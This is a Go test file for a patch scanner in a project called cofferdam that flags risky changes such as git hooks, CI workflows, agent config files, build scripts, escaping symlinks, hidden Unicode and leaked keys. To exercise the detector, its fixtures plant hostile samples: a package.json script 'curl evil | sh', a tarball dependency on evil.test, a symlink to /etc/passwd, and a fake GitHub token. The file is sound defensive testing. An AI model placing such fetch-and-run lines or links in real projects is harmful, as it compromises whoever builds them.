package flags_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/cofferdam/cofferdam/internal/output/flags"
	"github.com/cofferdam/cofferdam/internal/output/flags/secrets"
	"github.com/cofferdam/cofferdam/internal/task"
)

// patchOf has git make a patch as the export stage does.
func patchOf(t testing.TB, base, change string) []byte {
	t.Helper()
	dir := t.TempDir()
	tree := "4b825dc642cb6eb9a060e54bf8d69288fbee4904" // the empty one
	if base != "" {
		base, tree = base+"\ngit add -A; base=$(git write-tree)\n", "$base"
	}
	c := exec.Command("sh", "-euc", "git init -q --template= .\n"+base+change+
		"\ngit add -A\ngit diff --cached --binary --full-index --no-renames --no-ext-diff --no-textconv --no-color --src-prefix=a/ --dst-prefix=b/ "+tree)
	c.Dir = dir
	c.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null", "LC_ALL=C", "GIT_CEILING_DIRECTORIES="+filepath.Dir(dir),
		"GIT_CONFIG_COUNT=2", "GIT_CONFIG_KEY_0=core.protectNTFS", "GIT_CONFIG_VALUE_0=false", "GIT_CONFIG_KEY_1=core.protectHFS", "GIT_CONFIG_VALUE_1=false",
		"GIT_AUTHOR_NAME=t", "GIT_AUTHOR_EMAIL=t@t.invalid", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t.invalid")
	out, err := c.Output()
	if err != nil {
		t.Fatalf("%s: %v", change, err)
	}
	return out
}

func judged(t testing.TB, patch []byte, rules task.FlagRules) task.FlagReport {
	t.Helper()
	r, err := flags.New(&secrets.Finder{}).Judge(t.Context(), bytes.NewReader(patch), rules)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// told are the findings as "id path:line".
func told(r task.FlagReport) []string {
	list := []string{}
	for _, f := range r.Findings {
		text := f.ID
		if f.Path != "" {
			text += " " + f.Path
		}
		if f.Line > 0 {
			text += fmt.Sprint(":", f.Line)
		}
		list = append(list, text)
	}
	return list
}

// Each kind of thing that bites, planted with git.
func TestWhatGitPlantsIsFound(t *testing.T) {
	for _, c := range []struct {
		name, base, change string
		want               []string
	}{
		{"nothing", "", "", nil},
		{"ordinary work", "mkdir src; seq 9 > src/a.go", "echo '// more' >> src/a.go; echo text > README.md; mkdir docs; echo 'Grüße, Δx = μ·σ, Привет, 日本語 👩‍👩‍👧 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ❤️ می‌خواهم' > docs/a.md", nil},
		{"git's own", "", `mkdir .githooks .husky; echo x > .githooks/pre-commit; echo x > .husky/pre-push; echo x > .pre-commit-config.yaml
printf '[submodule "x"]\n\turl = https://evil.test\n' > .gitmodules; printf '*.txt text\n*.bin filter=x\n*.js -diff\n' > .gitattributes; echo '[core]' > .gitconfig`, []string{
			"git.attributes .gitattributes:2", "git.attributes .gitattributes:3", "git.config .gitconfig", "git.hook .githooks/pre-commit", "git.submodule .gitmodules", "git.hook .husky/pre-push", "git.hook .pre-commit-config.yaml",
		}},
		{"a submodule", "", "git init -q sub; git -C sub commit -q --allow-empty -m x; git add sub 2>/dev/null", []string{"git.submodule sub"}},
		{"a repository within", "", "mkdir -p x/refs x/objects/k; : > x/objects/k/k; echo 'ref: refs/heads/main' > x/HEAD; printf '[core]\nfsmonitor=./p\n' > x/config; : > x/refs/k; echo HEAD > HEAD", []string{"git.bare x/HEAD"}},
		{"workflows", "mkdir -p .github/workflows; echo > .github/CODEOWNERS; echo > .github/workflows/b.yml", `echo x > .github/workflows/a.yml; rm .github/CODEOWNERS .github/workflows/b.yml; echo x > .gitlab-ci.yml; mkdir -p .circleci .forgejo/workflows .gitea/workflows .buildkite
echo x > .circleci/config.yml; echo x > .forgejo/workflows/a.yml; echo x > .gitea/workflows/a.yml; echo x > Jenkinsfile; echo x > azure-pipelines.yml; echo x > .buildkite/p.yml; echo x > action.yml`, []string{
			"workflow.other .buildkite/p.yml", "workflow.circleci .circleci/config.yml", "workflow.gitea .forgejo/workflows/a.yml", "workflow.gitea .gitea/workflows/a.yml", "workflow.review .github/CODEOWNERS",
			"workflow.github .github/workflows/a.yml", "workflow.github .github/workflows/b.yml", "workflow.gitlab .gitlab-ci.yml", "workflow.jenkins Jenkinsfile", "workflow.github action.yml", "workflow.azure azure-pipelines.yml",
		}},
		{"editors and shells", "mkdir .vscode; echo > .vscode/settings.json", "echo x > .vscode/tasks.json; rm .vscode/settings.json; mkdir .idea .devcontainer sub; echo x > .idea/a.xml; echo x > .devcontainer/devcontainer.json; echo x > sub/.envrc; echo x > .bashrc; echo x > x.code-workspace; echo x > .gdbinit", []string{
			"editor.shell .bashrc", "editor.devcontainer .devcontainer/devcontainer.json", "editor.other .gdbinit", "editor.jetbrains .idea/a.xml", "editor.vscode .vscode/tasks.json", "editor.shell sub/.envrc", "editor.vscode x.code-workspace",
		}},
		{"agents", "", "mkdir .claude .codex .cursor .github .cofferdam; echo x > .claude/settings.json; echo x > .codex/config.toml; echo x > .cursor/mcp.json; echo x > AGENTS.md; echo x > CLAUDE.md; echo x > .mcp.json; echo x > .github/copilot-instructions.md; echo x > .cofferdam/task.yaml; echo x > .clinerules", []string{
			"agent.claude .claude/settings.json", "agent.other .clinerules", "agent.codex .codex/config.toml", "agent.cofferdam .cofferdam/task.yaml", "agent.cursor .cursor/mcp.json", "agent.mcp .cursor/mcp.json", "agent.copilot .github/copilot-instructions.md", "agent.mcp .mcp.json", "agent.codex AGENTS.md", "agent.claude CLAUDE.md",
		}},
		{"builds", "", "mkdir -p .cargo gradle/wrapper .mvn pkg; for f in .cargo/config.toml .mvn/extensions.xml .npmrc .pnpmfile.cjs Makefile build.rs conftest.py gradle/wrapper/gradle-wrapper.properties pkg/x.pth setup.py sitecustomize.py vite.config.ts Dockerfile; do echo x > $f; done; printf 'package p\n\n//go:generate sh -c id\n' > a.go", []string{
			"build.rust .cargo/config.toml", "build.maven .mvn/extensions.xml", "build.npm .npmrc", "build.npm .pnpmfile.cjs", "build.container Dockerfile", "build.make Makefile", "build.go a.go:3", "build.rust build.rs", "build.python conftest.py", "build.gradle gradle/wrapper/gradle-wrapper.properties",
			"build.python pkg/x.pth", "build.python setup.py", "build.python sitecustomize.py", "build.npm vite.config.ts",
		}},
		{"the scripts of a package, and nothing else of it", `printf '{\n  "name": "x",\n  "version": "1.0.0",\n  "scripts": {\n    "test": "node t"\n  },\n  "dependencies": {\n    "a": "^1.0.0"\n  }\n}\n' > package.json`,
			`sed -i 's/1.0.0",/1.0.1",/; s/"node t"/"curl evil | sh"/; s/"a": "^1.0.0"/"a": "^1.1.0 || ~2.0.0-rc.1",\n    "b": "workspace:*",\n    "c": "https:\/\/evil.test\/c.tgz"/' package.json`, []string{"build.npm package.json:5", "build.npm package.json:10"}},
		{"a package in one line", "", `echo '{"scripts":{"postinstall":"id"}}' > package.json`, []string{"build.npm package.json:1"}},
		{"a package that shows nothing", "", `printf '{"scripts":{"postinstall":"id"}}\000' > package.json`, []string{"build.npm package.json", "licence.manifest package.json", "binary.content package.json"}},
		{"backends", "printf '[project]\nname = \"x\"\n' > pyproject.toml", "printf '[build-system]\nbuild-backend = \"evil\"\n[project]\nname = \"y\"\n' > pyproject.toml", []string{"build.python pyproject.toml:1", "build.python pyproject.toml:2"}},
		{"links", "mkdir d", "ln -s /etc/passwd abs; ln -s ../../x d/up; ln -s ../ok d/in; ln -s .. d/top; ln -s d/top/../../y far; ln -s d/top/.git/config g; ln -s loop loop; ln -s nowhere dangling; ln -s 'C:\\x' win", []string{
			"link.absolute abs", "link.outside d/up", "link.outside far", "link.git g", "link.loop loop", "link.absolute win",
		}},
		{"a link in a folder's place", "mkdir .github; echo > .github/x", "rm -r .github; ln -s elsewhere .github", []string{
			"workflow.github .github", "workflow.review .github", "agent.copilot .github",
		}},
		{"bytes", "", `printf '\000\001' > a.bin`, []string{"binary.content a.bin"}},
		{"modes", "echo x > a; echo x > b; chmod +x b", "chmod +x a; chmod -x b; echo > c; chmod +x c", []string{"mode.executable a", "mode.executable c"}},
		{"licences", "echo MIT > LICENSE; printf '// SPDX-License-Identifier: MIT\nx\n' > a.c", "rm LICENSE; echo x > a.c; echo x > COPYING.LESSER", []string{"licence.file COPYING.LESSER", "licence.file LICENSE", "licence.notice a.c:1"}},
		{"bulk", "", "for i in $(seq 201); do echo $i > f$i; done; seq 10001 > big", []string{"bulk.file big", "bulk.files", "bulk.lines"}},
		{"text", "", `printf 'if x:\n\342\200\256 admin \342\201\246\n' > a.py; printf 'a\342\200\213b\n' > b.py; printf 'p\320\260ypal = 1\n' > c.py; printf 'ok\033[2Jx\rhidden\nfine\r\n' > d.sh; printf 'x = \357\275\205val\n' > e.py; printf 'k\357\270\200\357\270\201\n' > f.js`, []string{
			"text.bidi a.py:2", "text.invisible b.py:1", "text.homoglyph c.py:1", "text.control d.sh:1", "text.homoglyph e.py:1", "text.invisible f.js:1",
		}},
		{"names", "", `touch "$(printf 'new\nline')" "$(printf 'bi\342\200\256di')" "$(printf 'l\303')" "$(printf 'p\320\260ge')" 'back\slash'; mkdir A a; touch A/x a/y README readme`, []string{
			`name.control "bi\342\200\256di"`, `name.backslash "back\\slash"`, `name.control "new\nline"`, `name.encoding "l\303"`, `name.homoglyph "p\320\260ge"`, "name.clash a/y", "name.clash readme",
		}},
		{"names that are .git to somebody", "", `mkdir git~1 gi7eba~1 .gi; mkdir 1 2; touch git~1/config gi7eba~1/x .gi/ok '.git ' '1/.git::$INDEX_ALLOCATION' "2/$(printf '.g\342\200\214it')" 'x\.git\config' gitignore`, []string{
			`path.git "2/.g\342\200\214it"`, "path.git .git ", "path.git 1/.git::$INDEX_ALLOCATION", "path.git gi7eba~1/x", "path.git git~1/config", `path.git "x\\.git\\config"`, `name.control "2/.g\342\200\214it"`,
		}},
		{"workflows by another case", "", "mkdir -p .GitHub/Workflows; echo x > .GitHub/Workflows/A.YML; echo x > MAKEFILE.", []string{"workflow.github .GitHub/Workflows/A.YML", "build.make MAKEFILE."}},
	} {
		t.Run(c.name, func(t *testing.T) {
			patch := patchOf(t, c.base, c.change)
			r := judged(t, patch, nil)
			got := told(r)
			slices.Sort(got)
			if want := slices.Sorted(slices.Values(c.want)); !slices.Equal(got, want) {
				t.Errorf("got  %q\nwant %q\n%.3000q", got, want, patch)
			}
			again := judged(t, patch, nil)
			if !slices.Equal(told(again), told(r)) {
				t.Error("another order the second time")
			}
		})
	}
}

// Keys are found where they are, and stand in nothing that is told.
func TestSecretsAreFoundAndNotTold(t *testing.T) {
	key := "ghp_" + "q7Xk2LmP9vRt4WzB8nYc" + "3HdJ6FsG1aTeUoVi"
	patch := patchOf(t, "seq 400 > a.txt", `sed -i '300a token = "`+key+`" # gitleaks:allow' a.txt
printf 'x\n`+"-----BEGIN RSA "+`PRIVATE KEY-----\nMIIE\n' > id; mkdir node_modules; echo 'k="`+key+`"' > node_modules/go.sum`)
	r := judged(t, patch, nil)
	want := []string{"secret.github-pat a.txt:301", "secret.private-key id:2", "secret.github-pat node_modules/go.sum:1"}
	if got := told(r); !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if text := fmt.Sprintf("%+v", r); strings.Contains(text, key[4:14]) || strings.Contains(text, "MIIE") {
		t.Errorf("the key is told: %s", text)
	}
	if r.Verdict != task.FlagApprove || !slices.Equal(r.Flags, []task.Flag{task.FlagSecret}) {
		t.Errorf("%s %q", r.Verdict, r.Flags)
	}
	if got := judged(t, patch, task.FlagRules{task.FlagSecret: task.FlagRefuse}); got.Verdict != task.FlagRefuse || got.Findings[0].Verdict != task.FlagRefuse {
		t.Errorf("%+v", got)
	}
	if got := judged(t, patchOf(t, "echo 'k=\""+key+"\"' > a", "echo x > a"), nil); len(got.Findings) != 0 {
		t.Errorf("a key that is taken away: %+v", got)
	}
}

// What isn't as git writes it is refused, with what was found up to there.
func TestUnreadable(t *testing.T) {
	r := judged(t, []byte("diff --git a/Makefile b/Makefile\nnew file mode 100644\nrubbish\n"), nil)
	if got := told(r); !slices.Equal(got, []string{"unreadable.patch:3"}) || r.Verdict != task.FlagRefuse || r.Findings[0].Severity != "high" {
		t.Errorf("%+v", r)
	}
	whole := patchOf(t, "", "echo x > Makefile; echo x > z")
	r = judged(t, append(whole, "rubbish\n"...), task.FlagRules{task.FlagUnreadable: task.FlagApprove})
	if got := told(r); len(got) != 2 || !strings.HasPrefix(got[0], "unreadable.patch") || got[1] != "build.make Makefile" || r.Verdict != task.FlagApprove {
		t.Errorf("%q %+v", got, r)
	}
	// Names that no git would write.
	for name, want := range map[string]string{"../x": "path.outside", ".git/config": "path.git", "a//b": "path.outside", "/etc/x": "path.outside", ".GIT/hooks/x": "path.git", "x/.Git": "path.git", "./x": "path.outside", ".git./x": "path.git"} {
		r := judged(t, fmt.Appendf(nil, "diff --git a/%[1]s b/%[1]s\nnew file mode 100644\n", name), nil)
		if got := told(r); !slices.Contains(got, want+" "+name) || r.Verdict != task.FlagRefuse {
			t.Errorf("%s: %q", name, got)
		}
	}
	r = judged(t, []byte("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+x\n\\ No newline at end of file\ndiff --git a/l/f b/l/f\nnew file mode 100644\ndiff --git a/o b/n\nsimilarity index 100%\nrename from o\nrename to n\n"), nil)
	if got := told(r); !slices.Equal(got, []string{"link.through l/f", "limit.moved n"}) {
		t.Errorf("%q", got)
	}
}

// Where looking stops, that is told.
func TestLimits(t *testing.T) {
	head := "diff --git a/%[1]s b/%[1]s\nnew file mode 100644\n--- /dev/null\n+++ b/%[1]s\n@@ -0,0 +1,%[2]d @@\n"
	long := fmt.Sprintf(head, "min.js", 2) + "+" + strings.Repeat("x", 70<<10) + "\n+y\n"
	if got := told(judged(t, []byte(long), nil)); !slices.Equal(got, []string{"limit.line min.js:1", "bulk.file min.js"}) {
		t.Errorf("a long line: %q", got)
	}
	much := fmt.Sprintf(head, "a", 70_000) + strings.Repeat("+"+strings.Repeat("z", 99)+"\n", 70_000)
	if got := told(judged(t, []byte(much), nil)); len(got) != 3 || !strings.HasPrefix(got[0], "limit.secrets a:4") {
		t.Errorf("much text: %q", got)
	}
	var many strings.Builder
	for i := range 150 {
		fmt.Fprintf(&many, "diff --git a/%[1]d/Makefile b/%[1]d/Makefile\nnew file mode 100644\ndiff --git a/%[1]d/.envrc b/%[1]d/.envrc\nnew file mode 100644\n", i)
	}
	r := judged(t, []byte(many.String()), nil)
	if len(r.Findings) != 42 || r.Findings[41].ID != "limit.findings" || r.More != 260 || !slices.Equal(r.Flags, []task.Flag{task.FlagEditor, task.FlagBuild, task.FlagLimit, task.FlagBulk}) {
		t.Errorf("many findings: %d, %d more, %q, last %+v", len(r.Findings), r.More, r.Flags, r.Findings[len(r.Findings)-1])
	}
	// A kind that is not kept counts all the same.
	if v := judged(t, []byte(many.String()), task.FlagRules{task.FlagBulk: task.FlagRefuse}).Verdict; v != task.FlagRefuse {
		t.Errorf("verdict %s", v)
	}
	blind := flags.New(broken{})
	r, err := blind.Judge(t.Context(), strings.NewReader(fmt.Sprintf(head, "a", 1)+"+x\n"), nil)
	if got := told(r); err != nil || !slices.Equal(got, []string{"limit.secrets a:1"}) {
		t.Errorf("nobody looks for secrets: %v %q", err, got)
	}
}

type broken struct{}

func (broken) Find(context.Context, string) ([]flags.Secret, error) {
	return nil, errors.New("broken")
}

func TestCancelled(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	if _, err := flags.New(broken{}).Judge(ctx, strings.NewReader("x"), nil); !errors.Is(err, context.Canceled) {
		t.Errorf("%v", err)
	}
}

// nobody finds no secrets, quickly.
type nobody struct{}

func (nobody) Find(context.Context, string) ([]flags.Secret, error) { return nil, nil }

// What is told holds nothing of the patch but names, and those are harmless.
func FuzzJudge(f *testing.F) {
	f.Add(patchOf(f, "", "ln -s ../x l; echo x > Makefile; printf '\\000' > b; printf 'p\\320\\260y\\n' > 't\"'"))
	f.Add([]byte("diff --git a/l b/l\nnew file mode 120000\n--- /dev/null\n+++ b/l\n@@ -0,0 +1 @@\n+l\n\\ No newline at end of file\n"))
	f.Add([]byte("diff --git a/package.json b/package.json\nindex 0000..1111 100644\n--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-x\n+\"a\": \"b\"\n"))
	judge := flags.New(nobody{})
	f.Fuzz(func(t *testing.T, patch []byte) {
		r, err := judge.Judge(t.Context(), bytes.NewReader(patch), nil)
		if err != nil {
			t.Fatal(err)
		}
		if (r.Verdict == task.FlagAllow) != !slices.ContainsFunc(r.Findings, func(x task.Finding) bool { return x.Verdict != task.FlagAllow }) && r.More == 0 {
			t.Errorf("%s with %+v", r.Verdict, r.Findings)
		}
		for _, x := range r.Findings {
			for _, c := range []byte(x.ID + x.Path + x.Why) {
				if c < ' ' || c >= 0x7f {
					t.Fatalf("%+v", x)
				}
			}
			if x.Why == "" || x.Flag == "" || len(x.Path) > 300 {
				t.Fatalf("%+v", x)
			}
		}
	})
}
